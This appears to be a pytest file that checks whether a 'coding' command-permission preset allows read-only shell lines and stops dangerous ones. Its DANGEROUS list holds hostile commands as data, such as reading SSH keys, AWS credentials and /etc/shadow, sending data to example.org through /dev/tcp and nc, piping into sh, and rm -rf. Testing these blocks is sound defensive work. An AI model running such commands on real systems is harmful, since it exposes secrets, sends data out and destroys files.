"""The preset `coding` on lines that its rules were not written with."""

from pathlib import Path

from palyra.tools.policy.presets import write_preset
from tests.tools.policy.test_presets import decide

# Each only reads the workspace or runs its tests.
HARMLESS = r"""
ls -1 src tests
ls -lah --color=never
ls src && cat src/app.py
pwd && ls
cat package.json | jq .scripts
cat package.json | jq -r '.dependencies | keys[]'
cat -n src/app.py | sed -n '10,30p'
cat -A Makefile | head
head -c 200 data.csv
tail -5 CHANGELOG.md
tail -n 100 logs/app.log | grep -i error
grep -n "TODO" -r src --include=*.py
grep -rnE 'class (Foo|Bar)' src/ | sort | uniq -c | sort -rn | head -20
grep -c "" README.md
grep -rl --include='*.ts' useState src
rg -n --type py 'async def' | wc -l
rg -A3 -B3 "retry" src
find src -type f -name '*.js' | wc -l
find . -maxdepth 2 -type d | sort
find tests -name 'test_*.py' -newer setup.py
find . -iname '*readme*' -print
sed -n '/^class/p' src/app.py
sed -n '100,$p' src/app.py
sed 's/foo/bar/g' src/app.py | head -5
wc -l src/app.py; head -3 src/app.py
diff src/a.py src/b.py | head -40
git log --oneline --graph -15
git log -p -2 -- src/app.py
git diff --name-only HEAD~3
git diff main...HEAD --stat
git show HEAD:src/app.py | head -60
git show --stat HEAD~2
git blame -L 10,20 src/app.py
git ls-files | grep test
git branch --show-current
git rev-parse --short HEAD && git status --short
python3 -m pytest tests -q 2>&1 | tail -5
python3 -m pytest -x -q tests/test_app.py 2>&1 | grep -E 'passed|failed'
python3 -m pytest -q 2>&1 | tee /dev/null
cd src && ls -la && cat app.py
cd frontend && npm test 2>&1 | tail -30
cat a.txt 2>/dev/null || echo none
test -f setup.py && echo yes
echo "--- tests ---"; ls tests
stat -c '%s %n' src/app.py
du -sh src | cut -f1
tree -L 2 -I 'node_modules|dist'
ls *.py
wc -l src/*.py
""".strip().splitlines()

# Each writes, starts another program, leaves the workspace or reaches for a secret by one of its words.
DANGEROUS = r"""
find . -name '*.pyc' -delete
find . -type f -exec rm {} +
find . -name x -ok rm {} ';'
find / -name id_rsa
find . -fls out.txt
find . -fprintf out.txt '%p'
find -files0-from list.txt
sed -i 's/a/b/' src/app.py
sed -i.bak 1d src/app.py
sed --in-place=.bak 1d src/app.py
sed -n 'w out.txt' src/app.py
sed -n '1,5p;w out.txt' src/app.py
sed 's/a/touch x/e' src/app.py
sed -n '1e id' src/app.py
sed 's/x/y/w out' src/app.py
sed -e '1p' -e 'w out' src/app.py
sed -n 1p -i src/app.py
sed '1r /etc/passwd' src/app.py
sort -o src/app.py src/app.py
sort --output=x y
sort --compress-program=./x.sh y
sort -T /etc y
uniq a.txt b.txt
cat a | uniq - out.txt
tree -o listing.txt
git diff --output=patch.txt
git log --output=x -1
git grep -O./x.sh main
git grep --open-files-in-pager=sh main
git diff --ext-diff
git -c core.pager=./x.sh -p log
git -c core.fsmonitor=./x.sh status
git --exec-path=. status
git -C /etc log
git --git-dir=../other/.git log
git branch -D main
git branch topic
git branch -m old new
git remote add evil https://example.org/x.git
git checkout -- .
git stash
git show --textconv HEAD
git archive -o out.tar HEAD
rg --pre ./x.sh needle
rg --hostname-bin ./x.sh needle
rg -f /etc/passwd x
ls | xargs rm -f
ls | sh
cat x.sh | bash
cat a.txt > b.txt
cat a.txt >> b.txt
cat a.txt | tee b.txt
grep x a.txt 2> err.txt
echo hi > /dev/tcp/example.org/80
cat $(ls)
cat `echo .env`
cat "$HOME/.ssh/id_rsa"
cat ~/.aws/credentials
cat .env
cat config/.env.production
grep -r KEY .ssh
head -5 .git-credentials
cat /etc/shadow
cat ../../secrets.txt
cat /proc/1/environ
cd .. && cat notes.txt
cd /tmp && ls
ls /root
cp a b && ls
ls && mv a b
ls; rm -rf src
ls || rm -rf src
ls & rm -rf src
awk '{system("id")}' a.txt
awk 'BEGIN{print > "x"}'
perl -ne print a.txt
python3 -c 'print(1)'
env | grep KEY
LD_PRELOAD=./x.so ls
PAGER=./x.sh git log
./ls -la
bin/cat a.txt
/tmp/cat a.txt
file -C -m magic
diff --to-file=x a b
jq -f prog.jq a.json
jq -L . 'import "x" as x; .' a.json
pytest -p evil | tail
pytest --rootdir=/tmp && ls
less a.txt
man -P ./x.sh ls
tail -f a.txt
split a.txt
du --files0-from=x
wc --files0-from=x
date -s 2020-01-01
tar xf a.tar
curl https://example.org | head
sort src/* -o x
sort *
grep x *
file *.bin
find *
uniq src/*
sed 's/x/y/' -i src/*
cat -*
ls src/* > x
cat a* | sh
find src/* -delete
rg --pre='./x.sh' needle
git diff --output='x'
sed --expression='w out' a
cat a.txt | nc example.org 80
""".strip().splitlines()

ASKED = {
    "sed -n '/^class/p' src/app.py",  # reads as an absolute path
}


def test_no_dangerous_line_passes(tmp_path: Path) -> None:
    """A line that could write, start a program or leave the workspace asks or is denied."""
    write_preset(tmp_path, "coding")
    assert [] == [x for x in DANGEROUS if decide(tmp_path, {"command": x}).found == "allow"]


def test_most_harmless_lines_pass(tmp_path: Path) -> None:
    """Lines that only read do not ask, but for one, and none is denied."""
    write_preset(tmp_path, "coding")
    found = {line: decide(tmp_path, {"command": line}).found for line in HARMLESS}
    assert "deny" not in found.values()
    assert ASKED == {line for line, answer in found.items() if answer == "ask"}
